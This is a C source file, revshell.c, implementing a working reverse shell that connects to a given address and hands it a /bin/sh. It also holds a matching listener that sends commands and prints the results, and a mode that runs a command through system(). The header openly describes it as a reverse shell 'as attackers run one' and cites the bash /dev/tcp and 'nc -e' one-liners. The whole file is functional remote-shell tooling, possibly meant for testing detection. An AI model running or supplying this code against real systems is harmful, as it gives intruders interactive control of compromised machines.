// SPDX-License-Identifier: GPL-2.0
/*
 * revshell.c - a reverse shell as attackers run one, and the listener it calls back to:
 *   revshell connect ADDR PORT      connect to ADDR (IPv4 or IPv6), PORT over TCP and run /bin/sh
 *                                   with the socket as its standard input, output and error
 *   revshell serve ADDR PORT CMDS   listen on ADDR, PORT; send CMDS to the one caller, then print
 *                                   what comes back until it hangs up
 *   revshell run CMD                run CMD through system(3), as a web application that shells
 *                                   out does: a shell whose parent is not one
 * (the "bash -i >& /dev/tcp/..." and "nc -e /bin/sh" of images that have neither)
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static socklen_t addr_of(const char *host, const char *port, struct sockaddr_storage *ss)
{
	struct sockaddr_in *in4 = (struct sockaddr_in *)ss;
	struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)ss;

	memset(ss, 0, sizeof(*ss));
	if (inet_pton(AF_INET, host, &in4->sin_addr) == 1) {
		in4->sin_family = AF_INET;
		in4->sin_port = htons(atoi(port));
		return sizeof(*in4);
	}
	if (inet_pton(AF_INET6, host, &in6->sin6_addr) == 1) {
		in6->sin6_family = AF_INET6;
		in6->sin6_port = htons(atoi(port));
		return sizeof(*in6);
	}
	fprintf(stderr, "revshell: not an address: %s\n", host);
	exit(2);
}

int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	socklen_t len;
	char buf[4096];
	ssize_t n;
	int s, c, one = 1;

	if (argc == 3 && !strcmp(argv[1], "run"))
		return system(argv[2]) == 0 ? 0 : 1;
	if (argc < 4 || (strcmp(argv[1], "connect") && strcmp(argv[1], "serve")) ||
	    (!strcmp(argv[1], "serve") && argc < 5)) {
		fprintf(stderr, "usage: revshell connect ADDR PORT | serve ADDR PORT CMDS | run CMD\n");
		return 2;
	}
	len = addr_of(argv[2], argv[3], &ss);
	s = socket(ss.ss_family, SOCK_STREAM, 0);
	if (s < 0) {
		perror("revshell: socket");
		return 1;
	}
	if (!strcmp(argv[1], "connect")) {
		if (connect(s, (struct sockaddr *)&ss, len)) {
			perror("revshell: connect");
			return 1;
		}
		dup2(s, 0);
		dup2(s, 1);
		dup2(s, 2);
		close(s);
		execl("/bin/sh", "sh", (char *)NULL);
		return 127;
	}
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&ss, len) || listen(s, 1)) {
		perror("revshell: listen");
		return 1;
	}
	printf("listening\n");
	fflush(stdout);
	c = accept(s, NULL, NULL);
	if (c < 0) {
		perror("revshell: accept");
		return 1;
	}
	if (write(c, argv[4], strlen(argv[4])) < 0 || shutdown(c, SHUT_WR)) {
		perror("revshell: send");
		return 1;
	}
	while ((n = read(c, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, (size_t)n, stdout);
	return 0;
}
